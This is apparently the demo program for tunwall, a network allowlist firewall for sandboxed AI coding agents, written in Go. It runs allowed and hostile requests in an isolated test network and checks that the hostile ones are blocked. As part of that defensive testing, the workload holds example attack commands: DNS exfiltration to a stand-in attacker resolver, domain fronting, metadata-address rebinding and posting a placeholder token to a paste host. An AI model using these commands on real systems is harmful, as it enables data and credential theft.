// Command demo shows tunwall's main job end to end in a self-made test
// world (package testworld): two network namespaces joined by a veth, no
// route anywhere else, servers on documentation addresses. `make demo` runs
// it: go run ./cmd/tunwall-demo bin/tunwall. As root it builds the world
// itself; otherwise it re-runs itself in a user namespace of its own
// (userns.go) and runs tunwall rootless. Every step says what must happen
// to it (steps.go) and the demo exits 1 when one does not: an allowed
// request that failed is as much a failure as a denial that let through.
package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/tunwall/tunwall/internal/testworld"
)

const policyYAML = `# A coding agent's allowlist: the package registry while installing,
# the repository host and one API host while it works.
version: 1
phases:
  setup:
    allow:
      - host: allowed.test          # think: registry.npmjs.org
        ports: [443, 80]
      - host: "*.cdn.allowed.test"  # its CDN, any subdomain (never the apex)
  exec:
    allow:
      - host: allowed.test          # think: github.com
        ports: [443, 80]
      - host: api.allowed.test      # think: api.anthropic.com
      - host: rebind-metadata.test  # allowed, but its DNS points at 169.254.169.254
        ports: [80]
dns:
  upstream: 192.0.2.53:53
`

// The sandboxed workload: well-behaved and badly-behaved clients alike.
// Each step says what must happen to it; the demo checks that it did.
var workload = []step{
	{title: "curl https://allowed.test/            (allowed by name)",
		script: `curl -sS --max-time 5 https://allowed.test/`, allowed: true, want: "allowed.test /"},
	{title: `node fetch("https://api.allowed.test/") with HTTPS_PROXY set to an attacker (fetch ignores it; tunwall does not care)`,
		script:  `HTTPS_PROXY=http://192.0.2.66:3128 node -e 'fetch("https://api.allowed.test/").then(r=>r.text()).then(t=>process.stdout.write(t))'`,
		allowed: true, want: "api.allowed.test /"},
	{title: `node fetch("https://evil.test/")       (not on the list)`,
		script: `node -e 'fetch("https://evil.test/").then(()=>console.log("reached!")).catch(e=>{console.log("fetch failed:", e.cause && e.cause.code); process.exit(1)})'`,
		want:   "fetch failed: ENOTFOUND"},
	{title: "curl https://192.0.2.66/                (a raw IP, no name)",
		script: `curl -sS --max-time 5 https://192.0.2.66/; rc=$?; echo "curl exit $rc"; exit $rc`},
	{title: "dig @192.0.2.66 secret-abc123.evil.test TXT   (DNS to an attacker-chosen resolver: an exfiltration attempt)",
		script: `dig +short +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT
s=$(dig +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT | grep -o 'status: [A-Z]*'); echo "$s"; [ "$s" = "status: NOERROR" ]`,
		want: "status: NXDOMAIN"},
	{title: `curl -H "Host: evil.test" http://allowed.test/   (domain fronting)`,
		script: `out=$(curl -s --max-time 5 --fail-with-body -H 'Host: evil.test' -w '   (the body of an HTTP %{http_code} from tunwall)' http://allowed.test/); rc=$?; printf '%s\n' "$out" | tr -d '\n'; echo; exit $rc`,
		want:   "HTTP 403"},
	{title: "curl http://rebind-metadata.test/      (an allowed name whose DNS answer is 169.254.169.254: rebinding)",
		script: `curl -sS --max-time 5 http://rebind-metadata.test/; rc=$?; echo "curl exit $rc"; exit $rc`},
	{title: "ping -c1 allowed.test",
		script: `out=$(ping -c1 -W2 allowed.test); rc=$?; printf '%s\n' "$out" | sed -n 2p; exit $rc`},
}

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: demo PATH/TO/tunwall")
		os.Exit(2)
	}
	tw, err := filepath.Abs(os.Args[1])
	if err != nil {
		fail(err)
	}
	if os.Geteuid() != 0 {
		// The test world is made of network namespaces and a veth: as an
		// unprivileged user, in a user namespace of our own.
		os.Exit(reexecInUserNS(tw))
	}
	if inUserNS() {
		if err := privateNetnsDir(); err != nil {
			fail(err)
		}
	}
	os.Exit(run(tw))
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "demo:", err)
	os.Exit(1)
}

func heading(s string) { fmt.Printf("\n%s== %s%s\n", blue, s, reset) }

// Colour only on a terminal, and never with NO_COLOR set: piped or
// redirected, the demo's output is plain text.
var colour = isTerminal(os.Stdout) && os.Getenv("NO_COLOR") == ""

var bold, blue, reset = pick("\033[1m"), pick("\033[1;34m"), pick("\033[0m")

func pick(seq string) string {
	if colour {
		return seq
	}
	return ""
}

func isTerminal(f *os.File) bool {
	_, err := unix.IoctlGetTermios(int(f.Fd()), unix.TCGETS)
	return err == nil
}

// demo holds what the demo checks: every failed check is said where it
// happens and counted; the demo exits 1 if there was one.
type demo struct {
	tw       string
	w        *testworld.World
	failures []string
}

func (d *demo) check(ok bool, format string, args ...any) {
	if ok {
		return
	}
	msg := fmt.Sprintf(format, args...)
	fmt.Printf("!!! %s\n", msg)
	d.failures = append(d.failures, msg)
}

func run(tw string) int {
	for _, tool := range []string{"ip", "curl", "node", "dig", "ping"} {
		if _, err := exec.LookPath(tool); err != nil {
			fail(fmt.Errorf("%s is not installed (Debian: apt-get install iproute2 curl nodejs dnsutils iputils-ping)", tool))
		}
	}
	heading("Building a test world: an agent namespace and a world namespace, joined by a veth, no route anywhere else")
	w, err := testworld.New(testworld.Options{})
	if err != nil {
		fail(err)
	}
	defer w.Close()
	d := &demo{tw: tw, w: w}
	dir, err := os.MkdirTemp("", "tunwall-demo-")
	if err != nil {
		fail(err)
	}
	defer os.RemoveAll(dir)
	// The sandbox's user (run as root: SUDO_UID's, or nobody) reads the
	// CA and the policies here, so the folder may not be private to root
	// (no secret is kept here: the demo CA signs only the test world).
	if err := os.Chmod(dir, 0o755); err != nil {
		fail(err)
	}
	ca, err := w.CA.WritePEM(dir)
	if err != nil {
		fail(err)
	}
	policy := filepath.Join(dir, "agent.yaml")
	if err := os.WriteFile(policy, []byte(policyYAML), 0o644); err != nil {
		fail(err)
	}
	fmt.Printf("agent netns %s (tunwall runs here), world netns %s: web 192.0.2.10/11, resolver 192.0.2.53,\nan attacker's server 192.0.2.66 that logs every arrival, a fake metadata server 169.254.169.254.\n", w.AgentNS, w.WorldNS)

	heading("The policy (" + policy + ")")
	fmt.Print(policyYAML)
	d.cmd(0, "policy", "check", policy)
	d.cmd(0, "policy", "explain", policy, "api.allowed.test:443", "--phase", "exec")
	d.cmd(1, "policy", "explain", policy, "evil.test:443", "--phase", "exec")

	heading("tunwall run --policy agent.yaml --phase exec -- sh -c WORKLOAD")
	audit := filepath.Join(dir, "audit.jsonl")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	env := append(os.Environ(), "SSL_CERT_FILE="+ca, "NODE_EXTRA_CA_CERTS="+ca, "CURL_CA_BUNDLE="+ca)
	code, results := d.runSteps(ctx, env, "", workload, "run", "--policy", policy, "--phase", "exec", "--audit", audit)
	d.check(code == 0, "tunwall run exited %d, want 0 (the workload's own status)", code)
	for _, bad := range checkSteps(workload, results) {
		d.check(false, "%s", bad)
	}

	heading("What the world saw")
	evil := w.Arrivals("evil")
	meta := w.Arrivals("metadata")
	fmt.Printf("attacker's server 192.0.2.66: %d arrivals; metadata server: %d arrivals\n", len(evil), len(meta))
	d.check(len(evil) == 0 && len(meta) == 0, "a denied destination was reached")
	var asked []string
	for _, q := range w.DNS.Log() {
		asked = append(asked, q.Name+"/"+q.Type)
	}
	fmt.Printf("the world's resolver was asked only: %s\n", strings.Join(asked, ", "))
	for _, q := range w.DNS.Log() {
		d.check(!strings.Contains(q.Name, "evil") && !strings.Contains(q.Name, "secret"), "a denied name reached the resolver: %s", q.Name)
	}

	heading("The audit log: hash-chained, one JSON object per flow and per DNS query")
	b, err := os.ReadFile(audit)
	d.check(err == nil, "read the audit log: %v", err)
	denied := ""
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if strings.Contains(l, `"kind":"flow"`) && strings.Contains(l, `"verdict":"deny"`) {
			denied = l
			break
		}
	}
	fmt.Println("one denied flow:", denied)
	d.check(denied != "", "the audit log has no denied flow")
	d.cmd(0, "audit", "verify", audit)
	d.cmd(0, "audit", "summary", audit)

	heading("Learn mode builds an allowlist: run with --learn, then tunwall policy suggest")
	learn := filepath.Join(dir, "learn.jsonl")
	learnSteps := []step{{
		title:   "curl https://allowed.test/; curl https://a.cdn.allowed.test/; curl https://b.cdn.allowed.test/",
		script:  "curl -sS -o /dev/null https://allowed.test/ && curl -sS -o /dev/null https://a.cdn.allowed.test/ && curl -sS -o /dev/null https://b.cdn.allowed.test/",
		allowed: true,
	}}
	code, results = d.runSteps(ctx, env, "", learnSteps, "run", "--learn", "--quiet", "--dns-upstream", "192.0.2.53:53", "--audit", learn)
	d.check(code == 0, "tunwall run --learn exited %d, want 0", code)
	for _, bad := range checkSteps(learnSteps, results) {
		d.check(false, "%s", bad)
	}
	out := d.cmd(0, "policy", "suggest", learn, "--phase", "exec")
	d.check(strings.Contains(out, `host: "*.cdn.allowed.test"`), "policy suggest did not group the CDN names into *.cdn.allowed.test")

	d.steering(ctx, dir, policy, env)

	d.approvals(ctx, dir, policy, env)

	d.credentials(ctx, dir, ca)

	if len(d.failures) > 0 {
		fmt.Fprintf(os.Stderr, "\ndemo: FAILED: %d check(s) did not hold:\n", len(d.failures))
		for _, f := range d.failures {
			fmt.Fprintf(os.Stderr, "  %s\n", f)
		}
		return 1
	}
	fmt.Printf("\ndemo: every step turned out as it should (allowed ones worked, denied ones were denied)\n")
	return 0
}

// runSteps runs tunwall (args, then -- sh -c) in the agent namespace with
// the workload made of steps, showing its output and tunwall's lines in
// order, and returns tunwall's exit status and each step's outcome.
func (d *demo) runSteps(ctx context.Context, env []string, prelude string, steps []step, args ...string) (int, []result) {
	t := newTranscript(os.Stdout, len(steps))
	stdout, stderr := &lineWriter{fn: t.commandLine}, &lineWriter{fn: t.tunwallLine}
	c := d.agentCommand(ctx, append(args, "--", "sh", "-c", workloadScript(prelude, steps))...)
	c.Env = env
	c.Stdout, c.Stderr = stdout, stderr
	code := d.wait(c)
	stdout.Flush()
	stderr.Flush()
	return code, t.Results()
}

// agentCommand is tunwall with args, to be started in the agent namespace
// by wait. In a user namespace of the demo's own (run rootless), tunwall
// runs in one more below it as the invoking user, not as its root: so it
// runs rootless, as the user would run it.
func (d *demo) agentCommand(ctx context.Context, args ...string) *exec.Cmd {
	c := exec.CommandContext(ctx, d.tw, args...)
	c.SysProcAttr = asInvokingUser()
	return c
}

// wait starts c in the agent namespace, waits for it and returns its exit
// status (-1 if it did not start).
func (d *demo) wait(c *exec.Cmd) int {
	if err := d.w.InAgent(c.Start); err != nil {
		d.check(false, "start %s: %v", c.Path, err)
		return -1
	}
	err := c.Wait()
	if c.ProcessState == nil {
		d.check(false, "%s: %v", c.Path, err)
		return -1
	}
	return c.ProcessState.ExitCode()
}

// demoToken stands for a real credential: it lives in tunwall's
// environment only.
const demoToken = "ghp_demoRealTokenThatNeverEntersTheSandbox0"

const credsPolicyYAML = `# Credentials stay outside the sandbox: the sandbox holds a placeholder,
# tunwall puts the token into requests to the one host that should get it.
version: 1
secrets:
  GITHUB_TOKEN: {env: GITHUB_TOKEN}        # read from tunwall's own environment
phases:
  exec:
    allow:
      - host: api.creds.test               # think: api.github.com
        inject: [GITHUB_TOKEN]
      - host: git.creds.test               # think: github.com
        inject: [GITHUB_TOKEN]
        http:                              # clone yes, push no
          - {methods: [GET], paths: ["/repo.git/info/refs"]}
          - {methods: [POST], paths: ["/repo.git/git-upload-pack"]}
      - host: paste.creds.test             # think: gist.github.com: allowed, receives no secret
        http: [{methods: ["*"], paths: ["/**"]}]
dns:
  upstream: 192.0.2.53:53
`

// credsWorkload runs with a HOME of its own.
const credsPrelude = "export HOME=$(mktemp -d)\n"

var credsWorkload = []step{
	{title: "echo $GITHUB_TOKEN                    (what the sandbox holds)",
		script: `echo "$GITHUB_TOKEN"`, allowed: true, want: "twp_GITHUB_TOKEN_"},
	{title: `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.creds.test/user   (the token is injected for this host)`,
		script: `curl -sS --fail-with-body -H "Authorization: Bearer $GITHUB_TOKEN" https://api.creds.test/user`, allowed: true, want: "api: hello"},
	{title: `curl -H "Authorization: Bearer $GITHUB_TOKEN" -d ... https://paste.creds.test/gists   (the same placeholder to another host)`,
		script: `curl -sS --fail-with-body -H "Authorization: Bearer $GITHUB_TOKEN" -d '{"content":"leak"}' https://paste.creds.test/gists`},
	{title: "git clone https://x-access-token:$GITHUB_TOKEN@git.creds.test/repo.git   (allowed: the token goes in as Basic credentials)",
		script:  `cd "$HOME" && git -c init.defaultBranch=main clone -q "https://x-access-token:$GITHUB_TOKEN@git.creds.test/repo.git" r && cat r/README`,
		allowed: true, want: "tunwall credentials test repository"},
	{title: "git push origin main                    (git-receive-pack: no http rule allows it)",
		script: `cd "$HOME/r" && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm x && git push origin main`,
		want:   "403"},
}

// credentials shows a token injected for one host, the same placeholder
// refused for another, and a git push denied.
func (d *demo) credentials(ctx context.Context, dir, ca string) {
	heading("Keeping credentials out of the sandbox: --policy creds.yaml, the token only in tunwall's environment")
	if _, err := exec.LookPath("git"); err != nil {
		fmt.Println("(skipped: git is not installed)")
		return
	}
	repo := filepath.Join(dir, "git")
	os.MkdirAll(repo, 0o755)
	c, err := d.w.StartCreds(testworld.CredsOptions{Token: demoToken, RepoDir: repo})
	if err != nil {
		d.check(false, "start the credentials servers: %v", err)
		return
	}
	pol := filepath.Join(dir, "creds.yaml")
	if err := os.WriteFile(pol, []byte(credsPolicyYAML), 0o644); err != nil {
		d.check(false, "write %s: %v", pol, err)
		return
	}
	fmt.Print(credsPolicyYAML)
	audit := filepath.Join(dir, "creds.jsonl")
	env := append(os.Environ(), "GITHUB_TOKEN="+demoToken, "SSL_CERT_FILE="+ca)
	// The real token is shown as a stand-in wherever it would appear.
	t := newTranscript(&redact{w: os.Stdout}, len(credsWorkload))
	stdout, stderr := &lineWriter{fn: t.commandLine}, &lineWriter{fn: t.tunwallLine}
	rc := d.agentCommand(ctx, "run", "--policy", pol, "--audit", audit, "--", "sh", "-c", workloadScript(credsPrelude, credsWorkload))
	rc.Env = env
	rc.Stdout, rc.Stderr = stdout, stderr
	code := d.wait(rc)
	stdout.Flush()
	stderr.Flush()
	d.check(code == 0, "tunwall run exited %d, want 0", code)
	results := t.Results()
	for _, bad := range checkSteps(credsWorkload, results) {
		d.check(false, "%s", bad)
	}

	heading("What the servers got")
	real := 0
	for _, a := range append(c.Auths("api"), c.Auths("git")...) {
		if strings.Contains(a, demoToken) || strings.Contains(a, "Basic ") {
			real++
		}
	}
	fmt.Printf("api.creds.test and git.creds.test: %d requests carried the real token (Bearer, and Basic for git)\n", real)
	fmt.Printf("paste.creds.test: %d requests arrived\n", len(c.Got("paste")))
	d.check(real > 0, "no request carried the real token")
	d.check(len(c.Got("paste")) == 0, "a request with the placeholder reached paste.creds.test")
	leaked := false
	for _, r := range results {
		leaked = leaked || strings.Contains(r.output, demoToken)
	}
	b, err := os.ReadFile(audit)
	d.check(err == nil, "read the audit log: %v", err)
	fmt.Printf("the token's value is in the audit log: %v, in the sandbox's output: %v\n", bytes.Contains(b, []byte(demoToken)), leaked)
	d.check(!bytes.Contains(b, []byte(demoToken)) && !leaked, "the token's value reached the audit log or the sandbox")
	for _, l := range strings.Split(string(b), "\n") {
		if strings.Contains(l, `"kind":"http"`) && strings.Contains(l, `"verdict":"deny"`) {
			fmt.Println("one denied request:", l)
			break
		}
	}
	d.cmd(1, "policy", "explain", pol, "https://git.creds.test/repo.git/git-receive-pack", "--method", "POST")
}

// redact writes through, the real token replaced by a stand-in.
type redact struct{ w io.Writer }

func (r *redact) Write(p []byte) (int, error) {
	_, err := io.WriteString(r.w, strings.ReplaceAll(string(p), demoToken, "<THE REAL TOKEN>"))
	return len(p), err
}

// cmd runs tunwall outside any namespace (policy and audit commands need
// none), shows what it prints, checks that it exits want and returns its
// output.
func (d *demo) cmd(want int, args ...string) string {
	fmt.Printf("\n%s$ tunwall %s%s\n", bold, strings.Join(args, " "), reset)
	c := exec.Command(d.tw, args...)
	out, _ := c.CombinedOutput()
	os.Stdout.Write(out)
	code := -1
	if c.ProcessState != nil {
		code = c.ProcessState.ExitCode()
	}
	d.check(code == want, "tunwall %s exited %d, want %d", strings.Join(args, " "), code, want)
	return string(out)
}
